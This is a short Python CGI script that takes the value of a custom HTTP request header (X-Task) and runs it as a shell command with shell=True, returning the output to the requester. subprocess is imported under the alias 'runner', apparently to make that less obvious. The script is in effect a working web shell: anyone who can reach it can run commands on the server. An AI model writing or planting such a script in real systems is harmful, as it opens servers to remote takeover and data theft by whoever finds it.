#!/usr/bin/env python3
# Runs the command a request header carries, through subprocess imported under another name.
import os
import subprocess as runner

task = os.environ.get("HTTP_X_TASK", "")
print("Content-Type: text/plain")
print()
if task:
    print(runner.check_output(task, shell=True, stderr=runner.STDOUT).decode(errors="replace"))
